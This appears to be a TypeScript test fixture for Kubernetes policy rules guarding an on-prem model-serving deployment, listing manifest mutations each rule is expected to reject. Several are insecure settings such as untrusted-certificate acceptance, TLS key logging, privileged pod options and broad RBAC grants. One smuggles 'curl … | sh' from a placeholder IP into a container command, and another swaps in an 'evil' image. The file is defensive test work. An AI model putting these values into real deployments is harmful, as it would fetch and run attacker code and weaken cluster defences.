import { forbiddenType, type RuleCase } from "../../rule-case.ts";

const beside = (type: string, fields: Record<string, unknown>, metadata: Record<string, unknown> = { name: "a", namespace: "team" }) => ({
  type: `kubernetes:${type}`,
  name: "beside",
  inputs: { apiVersion: type.split(":")[0]!.replace("core/", ""), kind: type.split(":")[1], metadata, ...fields },
});
const pod = "spec template spec";
const envoy = "data bootstrap.json static_resources listeners 0 filter_chains 0";
const tls = `${envoy} transport_socket typed_config`;
const validation = "data clients-cluster.json resources 0 validation_context";
const http = "data bootstrap.json static_resources listeners 1 filter_chains 0 filters 0 typed_config";
const server = "modelkeep-on-prem-serving/model-server|Deployment";

export const cases: readonly RuleCase[] = [
  {
    rule: "kubernetes-admission-known-set",
    on: "modelkeep-on-prem-image-digest|ValidatingAdmissionPolicy",
    fails: [
      'spec validations 0 expression = "true"',
      "spec validations 1 -",
      'spec matchConditions 0 expression = "false"',
      'spec matchConstraints resourceRules 0 operations = ["UPDATE"]',
      'metadata annotations other = "a"',
    ],
  },
  {
    rule: "kubernetes-admission-known-set",
    on: "modelkeep-on-prem-image-digest|ValidatingAdmissionPolicyBinding",
    fails: [
      'spec matchResources excludeResourceRules = [{"apiGroups":["apps"]}]',
      'spec validationActions = ["Audit"]',
      'spec paramRef = {"name":"a"}',
      'spec matchResources namespaceSelector matchExpressions 0 operator = "NotIn"',
    ],
  },
  {
    rule: "kubernetes-certificate-known-shape",
    on: "modelkeep-on-prem-serving/front-door|Certificate",
    fails: ['spec usages = ["client auth"]', 'spec uris = ["spiffe://modelkeep/on-prem/client/search"]', "spec isCA = true"],
  },
  {
    rule: "kubernetes-claim-known-shape",
    on: "modelkeep-on-prem-serving/weights-8fa3a74952",
    fails: ['spec volumeName = "other"', 'spec dataSource = {"kind":"VolumeSnapshot"}', 'spec accessModes = ["ReadWriteMany"]'],
  },
  {
    rule: "kubernetes-config-map-known-content",
    on: "modelkeep-on-prem-probes/probe|ConfigMap",
    fails: ['data probe.py = "import os"', "data plan.json ways 0 -", 'data other = "a"', "immutable = true"],
  },
  {
    rule: "kubernetes-front-door-known-shape",
    on: "modelkeep-on-prem-serving/model-server-front-door|ConfigMap",
    fails: [
      `${validation} trust_chain_verification = "ACCEPT_UNTRUSTED"`,
      `${tls} common_tls_context key_log = {"path":"/tmp/keys"}`,
      `${http} route_config virtual_hosts 0 routes 0 route prefix_rewrite = "/metrics"`,
      `${http} route_config virtual_hosts 0 routes 0 match case_sensitive = false`,
      `${http} http_filters 4 = {"name":"envoy.filters.http.lua"}`,
      'data bootstrap.json admin = {"address":{}}',
      `${validation} allow_expired_certificate = true`,
      `${validation} trusted_ca filename = "/etc/ssl/certs/ca-certificates.crt"`,
      `${validation} crl -`,
      'data bootstrap.json = "static_resources: {}"',
    ],
    unknown: ["data", "data bootstrap.json", "data clients-cluster.json"],
  },
  {
    rule: "kubernetes-keep-complete",
    on: "modelkeep-on-prem-serving/default-deny",
    fails: [
      "remove modelkeep-on-prem-serving/default-deny",
      "remove modelkeep-on-prem-image-digest|ValidatingAdmissionPolicy",
      "remove modelkeep-on-prem-serving/model-server-front-door|ConfigMap",
    ],
    unknown: ["remove modelkeep-on-prem-serving/default-deny"],
  },
  {
    rule: "kubernetes-keep-complete",
    on: beside("core/v1:ConfigMap", { data: {} }),
    fails: ['metadata namespace = "modelkeep-on-prem-serving"', 'metadata namespace = "kube-system"'],
  },
  {
    rule: "kubernetes-keep-complete",
    on: beside("apps/v1:Deployment", { spec: { template: { spec: { containers: [{ name: "a", command: ["sleep"] }] } } } }),
    fails: [`${pod} containers 0 command = ["vllm","serve"]`],
  },
  {
    rule: "kubernetes-namespace-known-shape",
    on: "modelkeep-on-prem-serving|Namespace",
    fails: ['metadata labels istio-injection = "enabled"', 'metadata annotations = {"scheduler.alpha.kubernetes.io/node-selector":"a"}'],
  },
  {
    rule: "kubernetes-namespace-known-shape",
    on: "modelkeep-on-prem-serving/quota",
    fails: ['spec hard services.nodeports = "1"', 'spec hard requests.cpu = "960"', 'spec scopes = ["Terminating"]'],
  },
  {
    rule: "kubernetes-network-policy-known-shape",
    on: "modelkeep-on-prem-serving/grant-search",
    fails: [
      "spec ingress 0 ports 0 endPort = 9000",
      'spec ingress 0 from 1 = {"ipBlock":{"cidr":"10.0.0.0/8"}}',
      'spec podSelector matchLabels = {"a":"b"}',
      'spec ingress 0 from 0 podSelector = {"matchExpressions":[{"key":"app","operator":"Exists"}]}',
    ],
  },
  {
    rule: "kubernetes-object-known-fields",
    on: beside("core/v1:Service", { spec: { selector: { app: "a" }, ports: [{ port: 80 }] } }),
    fails: [
      'spec externalIPs = ["10.0.0.1"]',
      'spec type = "LoadBalancer"',
      'metadata annotations = {"tailscale.com/expose":"true"}',
      'metadata labels other = "a"',
    ],
  },
  {
    rule: "kubernetes-object-known-fields",
    on: beside("apps/v1:Deployment", {
      spec: {
        selector: { matchLabels: { app: "a" } },
        template: { metadata: { labels: { app: "a" } }, spec: { containers: [{ name: "a", image: "a" }] } },
      },
    }),
    fails: [
      `${pod} hostNetwork = true`,
      `${pod} hostUsers = false`,
      `${pod} volumes = [{"name":"a","nfs":{"server":"a","path":"/"}}]`,
      `${pod} containers 0 envFrom = [{"configMapRef":{"name":"a"}}]`,
      `${pod} containers 0 volumeMounts = [{"name":"a","mountPath":"/a","subPathExpr":"$(A)"}]`,
      `${pod} containers 0 securityContext = {"windowsOptions":{}}`,
    ],
  },
  {
    rule: "kubernetes-object-known-fields",
    on: beside("rbac.authorization.k8s.io/v1:Role", { rules: [{ apiGroups: [""], resources: ["pods"], verbs: ["get"] }] }),
    fails: [
      'rules 0 resources = ["secrets"]',
      'rules 0 verbs = ["patch"]',
      'rules 0 = {"apiGroups":["discovery.k8s.io"],"resources":["endpointslices"],"verbs":["update"]}',
      'rules 0 = {"nonResourceURLs":["/metrics"],"verbs":["get"]}',
    ],
  },
  {
    rule: "kubernetes-object-known-fields",
    on: beside("rbac.authorization.k8s.io/v1:RoleBinding", {
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "modelkeep-on-prem-operator" },
      subjects: [{ kind: "Group", name: "team", apiGroup: "rbac.authorization.k8s.io" }],
    }),
    fails: ['roleRef name = "system:node"', 'roleRef name = "edit"', 'subjects 0 name = "system:masters"'],
  },
  {
    rule: "kubernetes-object-known-fields",
    on: { type: "kubernetes:cert-manager.io/v1:Certificate", inputs: { metadata: { name: "mint", namespace: "team" } } },
    fails: [],
    forbidden: true,
    unknown: "decided",
  },
  forbiddenType("kubernetes-object-no-opaque-charts", "kubernetes:helm.sh/v3:Release"),
  {
    rule: "kubernetes-pod-known-shape",
    on: server,
    fails: [
      `${pod} containers 0 command 2 = "curl -s http://203.0.113.9/x | sh; exec vllm serve \\"$@\\""`,
      `${pod} containers 0 lifecycle postStart = {"exec":{"command":["sh"]}}`,
      `${pod} containers 0 volumeMounts 7 = {"name":"home","mountPath":"/usr/local/lib/python3.12"}`,
      `${pod} containers 0 args 17 = "--trust-remote-code"`,
      `${pod} containers 0 securityContext appArmorProfile = {"type":"Unconfined"}`,
      `${pod} initContainers 0 env = [{"name":"SSL_CERT_FILE","value":"/tmp/ca.pem"}]`,
      `${pod} initContainers 0 command = ["true"]`,
      `${pod} initContainers 1 args 5 = "trace"`,
      `${pod} initContainers 1 args 9 = "--config-yaml"`,
      `${pod} initContainers 1 image = "ghcr.io/evil/envoy:latest"`,
      `${pod} volumes 13 = {"name":"a","nfs":{"server":"203.0.113.9","path":"/"}}`,
      `${pod} volumes 13 = {"name":"a","csi":{"driver":"a"}}`,
      `${pod} dnsConfig = {"nameservers":["8.8.8.8"]}`,
      `${pod} hostAliases = [{"ip":"203.0.113.9","hostnames":["a"]}]`,
      `${pod} imagePullSecrets = [{"name":"a"}]`,
      `${pod} serviceAccountName = "other"`,
      `${pod} runtimeClassName = "legacy-privileged"`,
      `${pod} tolerations 0 = {"operator":"Exists"}`,
      'spec template metadata annotations container.apparmor.security.beta.kubernetes.io/model-server = "unconfined"',
      'metadata labels other = "a"',
    ],
  },
  {
    rule: "kubernetes-pod-known-shape",
    on: "modelkeep-on-prem-probes/probe|CronJob",
    fails: [
      'spec jobTemplate spec template spec containers 0 args = ["--help"]',
      'spec schedule = "0 0 1 1 *"',
      "spec suspend = true",
      'spec jobTemplate spec template spec nodeSelector = {"other":"pool"}',
    ],
  },
  {
    rule: "kubernetes-role-known-rights",
    on: "modelkeep-on-prem-operator|ClusterRole",
    fails: [
      'rules 0 verbs 3 = "patch"',
      'rules 0 resources 10 = "nodes"',
      'rules 8 = {"apiGroups":["cert-manager.io"],"resources":["certificates"],"verbs":["get"]}',
      'aggregationRule = {"clusterRoleSelectors":[{}]}',
      'metadata labels rbac.authorization.k8s.io/aggregate-to-view = "true"',
    ],
  },
  {
    rule: "kubernetes-service-known-shape",
    on: "modelkeep-on-prem-serving/model-server|Service",
    fails: [
      "spec publishNotReadyAddresses = true",
      'metadata annotations = {"tailscale.com/expose":"true"}',
      'spec sessionAffinity = "ClientIP"',
    ],
  },
];
